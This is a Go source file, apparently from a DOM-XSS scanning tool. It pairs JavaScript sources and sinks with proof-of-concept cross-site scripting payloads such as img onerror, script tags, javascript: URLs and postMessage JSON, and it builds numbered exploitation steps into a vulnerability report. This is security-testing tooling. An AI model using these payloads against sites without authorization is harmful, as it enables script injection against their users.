package dom

import (
	"fmt"
	"strings"
)

const defaultPayload = "<img src=x onerror=alert('DOM-XSS')>"

func exploitPayload(source SourceType, sink SinkType) string {
	switch source {
	case SourceHash, SourceSearch:
		switch sink {
		case SinkInnerHTML:
			return "#<img src=x onerror=alert('DOM-XSS')>"
		case SinkEval:
			return "#';alert('DOM-XSS');//"
		case SinkDocumentWrite:
			return "#<script>alert('DOM-XSS')</script>"
		case SinkJQueryHTML:
			return "#<img/src/onerror=alert('DOM-XSS')>"
		}
	case SourceLocation:
		if sink == SinkLocationHref {
			return "javascript:alert('DOM-XSS')"
		}
	case SourcePostMessage:
		switch sink {
		case SinkInnerHTML:
			return `{"message":"<img src=x onerror=alert('DOM-XSS')>"}`
		case SinkEval:
			return `{"code":"alert('DOM-XSS')"}`
		}
	case SourceLocalStorage, SourceSessionStorage:
		if sink == SinkInnerHTML {
			return "<svg onload=alert('DOM-XSS')>"
		}
	case SourceCookie:
		if sink == SinkInnerHTML {
			return "user=<script>alert('DOM-XSS')</script>"
		}
	}
	return defaultPayload
}

func exploitationSteps(source SourceType, sink SinkType) []string {
	payload := exploitPayload(source, sink)
	switch source {
	case SourceHash:
		return []string{
			"1. Navigate to the vulnerable page",
			"2. Append the payload to the URL hash: " + payload,
			"3. The payload will be processed by the JavaScript code",
			fmt.Sprintf("4. The sink (%s) will execute the malicious code", sink),
		}
	case SourcePostMessage:
		return []string{
			"1. Create a malicious page that will send the postMessage",
			"2. Use window.postMessage with payload: " + payload,
			"3. The vulnerable page will receive and process the message",
			fmt.Sprintf("4. The sink (%s) will execute the payload", sink),
		}
	case SourceLocalStorage, SourceSessionStorage:
		return []string{
			fmt.Sprintf("1. Set malicious data in %s", source),
			"2. Use console or another XSS to set: " + payload,
			"3. Navigate to the vulnerable page",
			fmt.Sprintf("4. The sink (%s) will read and execute the payload", sink),
		}
	}
	return []string{
		"1. Identify the injection point",
		"2. Inject the payload: " + payload,
		"3. Trigger the vulnerable code path",
		fmt.Sprintf("4. The sink (%s) executes the payload", sink),
	}
}

// Report renders an analysis as a plain text report.
func Report(a Analysis) string {
	var sb strings.Builder
	sb.WriteString("DOM XSS Analysis Report\n")
	sb.WriteString(strings.Repeat("=", 50) + "\n\n")
	fmt.Fprintf(&sb, "Sources Found: %d\n", len(a.Sources))
	fmt.Fprintf(&sb, "Sinks Found: %d\n", len(a.Sinks))
	fmt.Fprintf(&sb, "Vulnerable Flows: %d\n\n", len(a.Flows))
	if len(a.Flows) == 0 {
		return sb.String()
	}

	sb.WriteString("VULNERABILITIES FOUND:\n" + strings.Repeat("-", 30) + "\n\n")
	for i, f := range a.Flows {
		fmt.Fprintf(&sb, "[%d] DOM XSS Vulnerability\n", i+1)
		fmt.Fprintf(&sb, "Source: %s (line %d)\n", f.Source.Type, f.Source.Line)
		fmt.Fprintf(&sb, "  Code: %s\n", f.Source.Code)
		fmt.Fprintf(&sb, "Sink: %s (line %d)\n", f.Sink.Type, f.Sink.Line)
		fmt.Fprintf(&sb, "  Code: %s\n", f.Sink.Code)
		fmt.Fprintf(&sb, "Confidence: %.2f\n", f.Confidence)
		fmt.Fprintf(&sb, "Risk: %s\n", strings.ToUpper(f.Sink.RiskLevel))
		if len(f.Intermediates) > 0 {
			fmt.Fprintf(&sb, "Data Flow: %s\n", strings.Join(f.Intermediates, " -> "))
		}
		if len(f.Transformations) > 0 {
			fmt.Fprintf(&sb, "Transformations: %s\n", strings.Join(f.Transformations, ", "))
		}
		fmt.Fprintf(&sb, "\nExploit Payload:\n%s\n", f.Payload)
		sb.WriteString("\nExploitation Steps:\n")
		for _, step := range f.Steps {
			fmt.Fprintf(&sb, "  %s\n", step)
		}
		sb.WriteString("\n" + strings.Repeat("-", 30) + "\n\n")
	}
	return sb.String()
}
